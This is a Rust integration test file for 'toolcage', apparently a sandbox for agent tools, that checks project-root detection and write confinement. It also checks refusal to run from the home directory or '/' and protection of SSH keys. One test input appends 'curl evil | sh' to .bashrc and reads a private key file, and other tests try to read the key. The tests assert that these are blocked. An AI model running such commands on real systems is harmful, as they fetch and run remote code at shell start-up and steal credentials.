//! Without `-C`, toolcage finds the project as git and cargo find their
//! roots: the nearest directory up from the current one that holds a tool
//! directory or a `.git`. `exec` still runs its command where it was typed.
//! Each with its control: `-C .` from the same place sees no project.

use crate::common;

use common::Project;
use std::path::Path;
use std::process::{Command, Output};

fn toolcage(p: &Project, cwd: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_toolcage"))
        .args(args)
        .current_dir(cwd)
        .env("XDG_STATE_HOME", p.state_dir())
        .env("HOME", p.dir.join("no-such-home"))
        .output()
        .unwrap()
}

fn text(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned() + &String::from_utf8_lossy(&o.stderr)
}

fn project_with_a_tool(tag: &str) -> Project {
    let p = Project::new(tag);
    p.write(
        ".agents/tools/hello",
        "#!/bin/sh\n# @description Say hello.\necho hello\n",
    );
    std::process::Command::new("chmod")
        .arg("+x")
        .arg(p.dir.join(".agents/tools/hello"))
        .status()
        .unwrap();
    std::fs::create_dir_all(p.dir.join("src/deep")).unwrap();
    p
}

#[test]
fn list_and_call_from_a_subdirectory_find_the_project() {
    let p = project_with_a_tool("root-up");
    let deep = p.dir.join("src/deep");
    let o = toolcage(&p, &deep, &["list"]);
    assert!(
        o.status.success() && text(&o).contains("hello"),
        "{}",
        text(&o)
    );
    let o = toolcage(&p, &deep, &["call", "hello"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(text(&o).contains("hello"), "{}", text(&o));
    // Control: naming the subdirectory as the project finds no tools.
    let o = toolcage(&p, &deep, &["-C", ".", "list"]);
    assert!(!text(&o).contains("hello"), "{}", text(&o));
}

#[test]
fn exec_from_a_subdirectory_runs_there_with_the_project_writable() {
    let p = project_with_a_tool("root-exec");
    let deep = p.dir.join("src/deep");
    let o = toolcage(
        &p,
        &deep,
        &[
            "exec",
            "--",
            "sh",
            "-c",
            "pwd; echo x > ../../made && echo WROTE",
        ],
    );
    let out = text(&o);
    let real = deep.canonicalize().unwrap();
    assert!(out.lines().next() == Some(real.to_str().unwrap()), "{out}");
    assert!(
        out.contains("WROTE"),
        "the project root is the write root: {out}"
    );
    assert!(p.dir.join("made").exists());
    // Control: with -C . the subdirectory is the project; its parent is
    // not writable (what the call sees there is the private /tmp, at most).
    let o = toolcage(
        &p,
        &deep,
        &["-C", ".", "exec", "--", "sh", "-c", "echo x > ../../made2"],
    );
    assert!(!p.dir.join("made2").exists(), "{}", text(&o));
}

#[test]
fn a_directory_without_any_mark_is_its_own_project() {
    let p = Project::new("root-none");
    let sub = p.dir.join("a/b");
    std::fs::create_dir_all(&sub).unwrap();
    let o = toolcage(
        &p,
        &sub,
        &["exec", "--", "sh", "-c", "pwd; echo x > f && echo WROTE"],
    );
    let out = text(&o);
    assert!(out.contains("WROTE") && sub.join("f").exists(), "{out}");
    let o = toolcage(&p, &sub, &["exec", "--", "sh", "-c", "echo x > ../g"]);
    assert!(!p.dir.join("a/g").exists(), "{}", text(&o));
}

/// `toolcage ARGS` from `cwd` with `home` as `$HOME`.
fn from_home(p: &Project, home: &Path, cwd: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_toolcage"))
        .args(args)
        .current_dir(cwd)
        .env("XDG_STATE_HOME", p.state_dir())
        .env("HOME", home)
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap()
}

/// A home with a key and a shell start-up file, beside nothing else.
fn a_home(p: &Project) -> std::path::PathBuf {
    let home = p.dir.join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_ed25519"), "PRIVATE-KEY").unwrap();
    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    home
}

const FIX: &str = "cd into a project directory, or pass -C DIR";

#[test]
fn run_from_home_every_project_command_refuses_with_the_fix() {
    let p = Project::new("root-home");
    let home = a_home(&p);
    let append = "echo 'curl evil | sh' >> .bashrc; cat .ssh/id_ed25519";
    let o = from_home(&p, &home, &home, &["exec", "--", "sh", "-c", append]);
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(text(&o).contains(FIX), "{}", text(&o));
    assert!(!text(&o).contains("PRIVATE-KEY"), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    for args in [
        &["list"][..],
        &["check"],
        &["call", "hello"],
        &["policy"],
        &["schema"],
        &["serve"],
        &["upstreams"],
    ] {
        let o = from_home(&p, &home, &home, args);
        assert_eq!(o.status.code(), Some(125), "{args:?}: {}", text(&o));
        assert!(text(&o).contains(FIX), "{args:?}: {}", text(&o));
    }
    // What needs no project still works from home.
    for args in [
        &["doctor"][..],
        &["--version"],
        &["completions", "bash"],
        &["audit"],
    ] {
        let o = from_home(&p, &home, &home, args);
        assert_ne!(o.status.code(), Some(125), "{args:?}: {}", text(&o));
        assert!(!text(&o).contains(FIX), "{args:?}: {}", text(&o));
    }
    // Control: a directory of the home without any mark is the project,
    // and writable, as before.
    let scratch = home.join("scratch");
    std::fs::create_dir_all(&scratch).unwrap();
    let o = from_home(
        &p,
        &home,
        &scratch,
        &["exec", "--", "sh", "-c", "echo x > made && echo WROTE"],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(scratch.join("made").exists(), "{}", text(&o));
}

#[test]
fn dash_c_naming_home_what_holds_it_or_root_is_refused() {
    let p = Project::new("root-dash-c");
    let home = a_home(&p);
    let work = p.dir.join("work");
    std::fs::create_dir_all(&work).unwrap();
    let home_s = home.display().to_string();
    let parent_s = p.dir.display().to_string();
    for dir in [home_s.as_str(), parent_s.as_str(), "/"] {
        let o = from_home(&p, &home, &work, &["-C", dir, "exec", "--", "true"]);
        assert_eq!(o.status.code(), Some(125), "-C {dir}: {}", text(&o));
        assert!(
            text(&o).contains(&format!("-C {dir}: the project cannot be")),
            "{}",
            text(&o)
        );
        let o = from_home(&p, &home, &work, &["-C", dir, "list"]);
        assert_eq!(o.status.code(), Some(125), "-C {dir} list: {}", text(&o));
    }
    // Control: -C naming the directory beside the home.
    let o = from_home(&p, &home, &p.dir, &["-C", "work", "exec", "--", "true"]);
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
}

#[test]
fn allow_home_project_in_the_operators_file_outside_home_lets_it_run() {
    let p = Project::new("root-allow-home");
    let home = a_home(&p);
    let policy = p.dir.join("operator.toml");
    std::fs::write(&policy, "allow_home_project = true\n").unwrap();
    let policy_s = policy.display().to_string();
    let o = from_home(
        &p,
        &home,
        &home,
        &[
            "exec",
            "--policy",
            &policy_s,
            "--",
            "sh",
            "-c",
            "echo x > made && echo WROTE",
        ],
    );
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    assert!(home.join("made").exists(), "{}", text(&o));
    // Even then the keys in it stay denied (the home secrets floor).
    let o = from_home(
        &p,
        &home,
        &home,
        &[
            "exec",
            "--policy",
            &policy_s,
            "--",
            "cat",
            ".ssh/id_ed25519",
        ],
    );
    assert!(!text(&o).contains("PRIVATE-KEY"), "{}", text(&o));
    // Control: the same file inside the home (the project) allows nothing.
    let inside = home.join("operator.toml");
    std::fs::copy(&policy, &inside).unwrap();
    let o = from_home(
        &p,
        &home,
        &home,
        &["exec", "--policy", "operator.toml", "--", "true"],
    );
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    assert!(
        text(&o).contains("allow_home_project: only a --policy file outside"),
        "{}",
        text(&o)
    );
    // `/` is never allowed.
    let o = from_home(
        &p,
        &home,
        &home,
        &["-C", "/", "exec", "--policy", &policy_s, "--", "true"],
    );
    assert_eq!(o.status.code(), Some(125), "{}", text(&o));
    // ... and refused as such, not by whatever else loading the policy
    // for `/` runs into first.
    assert!(
        text(&o).contains("-C /: the project cannot be the root directory /"),
        "{}",
        text(&o)
    );
}
